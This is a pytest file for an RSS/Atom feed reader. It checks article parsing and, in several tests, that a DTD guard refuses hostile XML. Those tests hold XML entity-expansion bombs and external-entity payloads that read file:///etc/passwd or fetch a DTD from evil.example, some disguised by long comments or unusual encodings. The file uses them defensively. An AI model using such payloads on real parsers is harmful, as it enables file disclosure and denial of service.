"""Local RSS/Atom files: one article per entry."""

from datetime import UTC, datetime

import pytest
from _paths import TESTS

from unspin.read import read_path
from unspin.read.feed import read_feed
from unspin.types import Article, ItemFailure

DATA = TESTS / "data" / "read"


def test_rss_entries():
    results = list(read_path(DATA / "feed.rss"))
    library, bridge, gallery = results
    assert isinstance(library, Article) and library.format == "feed"
    assert library.source.endswith("feed.rss#1")
    assert library.title.text == "Library extends weekend opening hours"
    assert library.original == (
        "Library extends weekend opening hours\n\n"
        "The central library will open on Sundays from June, the county council said.\n"
        "Staff numbers will rise by four to cover the extra hours."
    )
    assert library.outlet == "Valley Gazette"
    assert library.url == "https://valleygazette.example/2024/05/library-hours"
    assert library.published == datetime(2024, 5, 7, 8, 15, tzinfo=UTC)
    assert library.meta["tags"] == ["Libraries"]
    assert "alert" not in library.original
    assert bridge.original.endswith("remains safe for cars.")
    assert isinstance(gallery, ItemFailure) and gallery.source.endswith("feed.rss#3")
    assert "no summary or content" in gallery.reason


def test_atom_prefers_full_content_over_summary():
    (entry,) = list(read_path(DATA / "feed.atom"))
    assert entry.title.text == "Port authority publishes dredging plan"
    assert "deepen the main channel by two metres" in entry.original
    assert "Fishing groups will be consulted" in entry.original
    assert "Short summary" not in entry.original
    assert entry.author == "Ilse Maren" and entry.outlet == "Northern Ledger"


def test_full_text_content_leaves_captions_out(tmp_path):
    path = tmp_path / "captions.rss"
    path.write_text(
        '<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        "<channel><title>Coast Gazette</title><item><title>Port strike enters second week</title>"
        "<content:encoded><![CDATA[<p>Dock workers stayed off the job for a seventh day.</p>"
        '<figure><img src="a.jpg"/><figcaption>Pickets at the gate. Photo: Staff</figcaption></figure>'
        "<p>Employers said they had offered a 4% rise.</p>]]></content:encoded></item></channel></rss>",
        encoding="utf-8")
    (entry,) = read_path(path)
    assert entry.original == ("Port strike enters second week\n\nDock workers stayed off the job for a seventh day."
                              "\nEmployers said they had offered a 4% rise.")


def test_feed_with_entity_declarations_is_refused():
    data = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
<rss version="2.0"><channel><title>T</title><item><title>&lol2;</title><description>x</description></item></channel></rss>"""
    path_results = list(read_feed_safely(data))
    assert len(path_results) == 1 and isinstance(path_results[0], ItemFailure)
    assert "entities" in path_results[0].reason


def test_not_a_feed(tmp_path):
    path = tmp_path / "notes.xml"
    path.write_text("<?xml version='1.0'?><notes><note>Buy milk</note></notes>")
    (error,) = list(read_path(path))
    assert isinstance(error, ItemFailure) and "not an RSS/Atom feed" in error.reason


def read_feed_safely(data: bytes):
    from unspin.read.errors import ReadFailure

    try:
        yield from read_feed(data, "evil.xml")
    except ReadFailure as exc:
        yield ItemFailure(source="evil.xml", reason=exc.reason)


LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
ITEMS = '<rss version="2.0"><channel><title>T</title><item><title>&b;</title><description>x</description></item></channel></rss>'


def _guarded(data: bytes) -> str | None:
    """The refusal's reason, or None when the guard lets the document through."""
    from unspin.read.errors import ReadFailure
    from unspin.read.xmlguard import refuse_dtd

    try:
        refuse_dtd(data, "feed.xml")
    except ReadFailure as exc:
        return exc.reason
    return None


@pytest.mark.parametrize("name, data", [
    ("long comment first", ('<?xml version="1.0"?><!--' + "x" * 70_000 + "-->" + LAUGHS + ITEMS).encode()),
    ("utf-16 with a BOM", ('<?xml version="1.0" encoding="utf-16"?>' + LAUGHS + ITEMS).encode("utf-16")),
    ("utf-16 without a BOM", ('<?xml version="1.0" encoding="utf-16le"?>' + LAUGHS + ITEMS).encode("utf-16-le")),
    ("utf-32", ('<?xml version="1.0" encoding="utf-32"?>' + LAUGHS + ITEMS).encode("utf-32")),
    ("external DTD", b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">' + ITEMS.encode()),
    ("external entity", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
     + ITEMS.encode()),
    ("parameter entity", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
     + ITEMS.encode()),
    ("RSS 0.91 DOCTYPE with entities", b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC '
     b'"-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" '
     b'[<!ENTITY b "boom">]>' + ITEMS.encode()),
    ("broken XML, declaration after the break", b'<?xml version="1.0"?><rss><channel></oops>'
     + LAUGHS.encode() + ITEMS.encode()),
    ("broken utf-16", ('<?xml version="1.0" encoding="utf-16"?><rss></oops>' + LAUGHS + ITEMS).encode("utf-16")),
])
def test_dtds_are_refused_wherever_and_however_encoded(name, data):
    reason = _guarded(data)
    assert reason is not None and "refused for safety" in reason, name
    results = list(read_feed_safely(data))
    assert len(results) == 1 and isinstance(results[0], ItemFailure), name


def test_plain_feeds_and_the_rss_091_doctype_pass():
    plain = ('<?xml version="1.0" encoding="utf-16"?><!-- a comment that mentions <!ENTITY> -->'
             '<rss version="2.0"><channel><title>T</title><item><title>Ferry strike</title>'
             '<description><![CDATA[<p>Crews <b>stopped</b> work; "<!DOCTYPE" appears in CDATA.</p>]]></description>'
             '</item></channel></rss>').encode("utf-16")
    assert _guarded(plain) is None
    rss091 = (b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE rss PUBLIC '
              b'"-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
              b'<rss version="0.91"><channel><title>Old feed</title><link>http://example.org/</link>'
              b'<description>d</description><item><title>Caf\xe9 reopens</title>'
              b'<description>The caf\xe9 on the square reopened on Monday after a fire.</description></item>'
              b'</channel></rss>')
    assert _guarded(rss091) is None
    (article,) = read_feed_safely(rss091)
    assert isinstance(article, Article) and article.title_text == "Café reopens"
